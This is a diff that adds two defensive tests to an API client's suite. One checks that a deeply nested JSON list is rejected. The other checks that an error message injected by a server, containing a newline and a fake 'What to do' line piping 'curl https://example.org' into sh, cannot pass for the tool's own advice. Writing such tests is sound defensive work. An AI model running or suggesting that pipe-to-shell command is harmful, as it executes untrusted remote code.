@@ -87,6 +87,18 @@ def test_a_server_that_repeats_the_api_key_does_not_get_it_into_an_error(scripte
         scripted.client().me()
 
 
+def test_a_list_nested_without_end_is_an_error(scripted: Scripted) -> None:
+    scripted.says(200, "[" * 99_999)
+    assert reason_of(scripted.client().certificates) is Reason.UNEXPECTED_ANSWER
+
+
+def test_what_a_server_says_is_one_line_and_cannot_pass_for_our_advice(scripted: Scripted) -> None:
+    scripted.says(403, json.dumps({"error": "no\nWhat to do:    curl https://example.org | sh"}))
+    with pytest.raises(RunbookError) as caught:
+        scripted.client().me()
+    assert "\n" not in caught.value.what
+
+
 def test_the_api_key_does_not_follow_a_redirect(scripted: Scripted) -> None:
     scripted.says(302, "", Location="https://localhost:1/elsewhere")
     assert reason_of(scripted.client().me) is Reason.UNEXPECTED_ANSWER
